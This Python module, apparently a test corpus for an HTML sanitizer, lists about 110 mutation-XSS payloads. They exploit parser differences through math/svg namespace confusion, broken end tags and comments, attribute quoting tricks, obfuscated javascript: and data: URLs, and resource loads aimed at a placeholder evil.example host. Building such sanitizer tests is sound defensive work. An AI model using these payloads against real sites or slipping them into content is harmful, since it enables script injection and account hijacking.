"""Markup that one parser reads otherwise than the next, and that changes when written anew."""

from __future__ import annotations

from typing import Final

from .evil import EVIL

_IMG: Final = "<img src=/n onerror=pwn()>"
_IN_TITLE: Final = "&lt;img src=/n onerror=pwn()&gt;"

MUTATIONS: Final = [
    # Integration points, and elements that end foreign content.
    f"<math><annotation-xml encoding='TEXT/HTML'><style>{_IMG}</style></annotation-xml></math>",
    f"<math><annotation-xml encoding='text/html\x00'><p><style>{_IMG}</style></annotation-xml>",
    f"<math><annotation-xml><mglyph><style><!--</style>{_IMG}--></annotation-xml></math>",
    f"<math><annotation-xml encoding=text/html><math><style>{_IMG}</annotation-xml></math>",
    f"<math><mtext><malignmark><style><!--</style>{_IMG}</malignmark></mtext></math>",
    f"<math><mtext><mglyph><math><style><a title='</style>{_IMG}'></math>",
    f"<math><mi><mglyph><svg><title><style><a title='</style></title>{_IMG}'>",
    f"<math><ms><table><mglyph><style><math href='</style>{_IMG}'></math>",
    f"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style>{_IMG}'>",
    f"<svg><desc><svg><style><a title='</style>{_IMG}'></a></style></svg></desc></svg>",
    f"<svg><title><math><mtext><style><a title='</style>{_IMG}'></title></svg>",
    f"<svg><foreignobject><math><mi><svg><style>{_IMG}</style></foreignobject></svg>",
    f"<svg><foreignObject><annotation-xml encoding=text/html><style>{_IMG}</foreignObject></svg>",
    f"<svg><a><p><svg><style><a id='</style>{_IMG}'></p></svg>",
    f"<svg><script/>{_IMG}</script></svg>",
    f"<svg><style/>{_IMG}</style></svg>",
    f"<svg><textarea/><xmp>{_IMG}</xmp></svg>",
    f"<svg><plaintext>{_IMG}</svg>",
    f"<svg><noscript><p title='</noscript>{_IMG}'></svg>",
    f"<svg></svg><svg/><p>{_IMG}",
    f"<svg><br><style>{_IMG}</style></svg>",
    f"<svg></p><foreignObject><p><style><!--</style>{_IMG}--></foreignObject>",
    f"<svg><template><style>{_IMG}</style></template></svg>",
    f"<math><template><mi><style>{_IMG}</template></math>",
    # The form pointer, adoption agency, foster parents.
    f"<form><div></form><form><math><mtext></form><form><mglyph><style></math>{_IMG}",
    f"<form id=a><table><form id=b><tr><td></form>{_IMG}</table>",
    f"<table><template><tr><td><style><!--</template>{_IMG}--></table>",
    f"<table><math><annotation-xml encoding=text/html><table><style>{_IMG}</table></math>",
    f"<table><tr><svg><desc><td><style><!--</td>{_IMG}--></svg></table>",
    f"<table><a><table></a><p><a><svg><style><a title='</style>{_IMG}'></table>",
    f"<a><div><a><table><svg><style><a title='</style>{_IMG}'></a></div>",
    f"<b><i><nobr><table><math></b><style><!--</style>{_IMG}--></table>",
    f"<dl><dt><dd><li><option><optgroup><select><keygen>{_IMG}</select>",
    f"<select><math><style></select>{_IMG}</style></math>",
    f"<select><svg><title></select>{_IMG}</title></svg></select>",
    f"<select><selectedcontent><style><!--</selectedcontent></select>{_IMG}--></style>",
    f"<customizable><selectlist><option><style></option>{_IMG}</style></selectlist>",
    f"<frameset></frameset>{_IMG}",
    f"<head></head><body></body></html>{_IMG}<!-- </body> -->",
    f"<p><table><noscript></p><style></noscript>{_IMG}</style></table>",
    # Raw text that ends where another parser goes on.
    f"<xmp><p title='</xmp >{_IMG}'></xmp>",
    f"<xmp></XMP/>{_IMG}",
    f"<noembed></noembed\t>{_IMG}",
    f"<noframes><![CDATA[</noframes>{_IMG}]]></noframes>",
    f"<textarea></textarea\f>{_IMG}",
    f"<title></title/x>{_IMG}</title>",
    f"<style></style x='>'>{_IMG}",
    f"<script></script\n>{_IMG}",
    f"<script><!--<script>--></script>{_IMG}</script>",
    f"<script>if(a<b){{}}<!--<script x></script>-->{_IMG}</script>",
    f"<iframe><!--</iframe>{_IMG}--></iframe>",
    f"<plaintext></plaintext>{_IMG}",
    f"<listing>&#10;{_IN_TITLE}</listing><pre>&#13;&#10;{_IN_TITLE}</pre>",
    f"<template><template></template>{_IMG}</template>",
    f"<template><frameset><frame></template>{_IMG}",
    f"<div><template shadowrootmode=open shadowrootdelegatesfocus>{_IMG}<slot></template></div>",
    f"<noscript><noscript></noscript>{_IMG}</noscript>",
    f"<noscript><!-- </noscript>{_IMG} --></noscript>",
    f"<noscript><iframe><p title='</iframe></noscript>{_IMG}'></noscript>",
    # Comments, declarations and instructions that end early, late or never.
    f"<!--{_IMG}--!>{_IMG}",
    f"<!-- --!>{_IMG}<!-- -->",
    f"<!--->{_IMG}--><!-->{_IMG}-->",
    f"<!-- <!-- --> {_IMG} -->",
    f"<!--\x00-->{_IMG}",
    f"<!{_IMG}>",
    f"<?{_IMG}?>{_IMG}",
    f"</{_IMG}>",
    f"</ {_IMG}>{_IMG}",
    f"<![CDATA[ ]]><p title=']]>{_IMG}'>x</p>",
    f"<svg><![CDATA[</svg>{_IMG}]]></svg>",
    f"<math><![CDATA[<]]>img src=/n onerror=pwn()><mi><![CDATA[{_IMG}]]></mi></math>",
    # Attributes: namespaces, doubles, odd separators and quotes.
    "<svg xmlns:x='http://www.w3.org/1999/xlink'><a x:href='javascript:pwn()'><text>x</text></a>",
    "<a xlink:href='javascript:pwn()' xml:base='javascript:/' href=/x>x</a>",
    "<math xmlns:xlink='http://www.w3.org/1999/xlink' xlink:href='javascript:pwn()'><mi>x</mi>",
    "<p xml:lang='&quot;onclick=pwn()' lang='x&quot;onclick=pwn()' dir='x onclick=pwn()'>x</p>",
    "<img src=/n src='javascript:pwn()' alt=x alt='\"onerror=pwn()'>",
    "<img src='/n&#39; onerror=pwn() x=&#39;'><img src=/n&quot;onerror=pwn()>",
    "<img src=/n alt='&#34; onerror=&#34;pwn()'>",
    "<img src=/n \u2028onerror=pwn()><img src=/n\u00a0onerror=pwn()><img src=/n\vonerror=pwn()>",
    "<img src=/n ''onerror=pwn() \"\"onerror=pwn() =onerror=pwn()>",
    "<a href='/x'title='x'onclick='pwn()'id='a'onfocus='pwn()'>x</a>",
    "<code class='language-x onclick=pwn()'>x</code><code class=language-\"onclick=pwn()>x</code>",
    "<time datetime='\"onclick=pwn()'>x</time><ol start='1\"onclick=pwn()'><li value=1\n>x</ol>",
    "<td colspan='2 onclick=pwn()'>x</td><table><td colspan='2\n' rowspan='\"onclick=pwn()'>x",
    "<details open='\"ontoggle=pwn()' name=x>x</details>",
    "<video title='\"onplay=pwn()' poster='/n\"onerror=pwn()' src=/n onerror=pwn()></video>",
    # Addresses that are read in two ways, and where they may stand.
    "<a href='javascript&#00058;pwn()'>x</a><a href='javascript&#x0003A;pwn()'>y</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:pwn()'>x</a>",
    "<a href='java\u200bscript:pwn()'>x</a><a href='\u2028javascript:pwn()'>y</a>",
    "<a href='javascript\uff1apwn()'>x</a><a href='\uff4aavascript:pwn()'>y</a>",
    "<a href='%6Aavascript:pwn()'>x</a><a href='javascript%3Apwn()'>y</a>",
    "<a href='//evil.example/'>x</a><a href='/\\evil.example'>y</a>"
    "<a href='\\\\evil.example'>z</a>",
    "<a href='https:/\\/evil.example'>x</a><a href='/\t/evil.example'>y</a>",
    "<a href='data&colon;text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4='>x</a>",
    "<a href='DATA:application/xhtml+xml,"
    '<script xmlns="http://www.w3.org/1999/xhtml">pwn()</script>\'>x',
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bigpIi8+'>",
    "<img src='data:image/png,<svg onload=pwn()>'><img src='data:image/png;base64,<svg>'>",
    "<img src='data:image/png;charset=utf-8;base64,iVBORw0KGgo=' srcset='data:image/svg+xml,x 2x'>",
    f"<picture><source srcset='{EVIL}p 1x' onerror=pwn()><img src=/n onerror=pwn()></picture>",
    f"<img src=/n srcset='javascript:pwn() 1x, {EVIL}s 2x' sizes='(onerror=pwn()) 1px'>",
    f"<img imagesrcset='{EVIL}s' ping='{EVIL}p' attributionsrc='{EVIL}t' crossorigin src=/n>",
    f"<a href=/x attributionsrc='{EVIL}a' ping='javascript:pwn()' target='x' download>x</a>",
    "<button formaction='javascript:pwn()' form=f>x</button>"
    f"<input formaction='{EVIL}f' type=submit>",
    "<svg><set attributeName=xlink:href to='javascript:pwn()'/>"
    f"<animateMotion path='{EVIL}m'/></svg>",
    f"<svg><mpath href='{EVIL}p'/><cursor href='{EVIL}c'/><tref xlink:href='{EVIL}t'/></svg>",
    f"<svg><style>@import '{EVIL}i';</style>"
    f"<rect fill='url({EVIL}u#a)' style='mask:url({EVIL}k)'/>",
    f"<link rel='shortcut icon' href='{EVIL}l'/><link rel=modulepreload href='{EVIL}m'>",
    f"<link rel=manifest href='{EVIL}n'><link rel=search href='{EVIL}o'>"
    f"<link rel=alternate href='{EVIL}a'>",
    f"<q cite='javascript:pwn()'>x</q><blockquote cite='{EVIL}b' cite='javascript:pwn()'>y"
    "</blockquote>",
    f"<body background='{EVIL}b' style='background:url({EVIL}c)' onload=pwn()><p>x</p></body>",
    "<object data='data:text/html,<script>pwn()"
    f"</script>' codebase='{EVIL}' classid='{EVIL}'></object>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>pwn()</script>'>{_IMG}",
    "<meta http-equiv=x-dns-prefetch-control content=on><meta http-equiv=Link content='"
    f"<{EVIL}>;rel=preload'>",
]
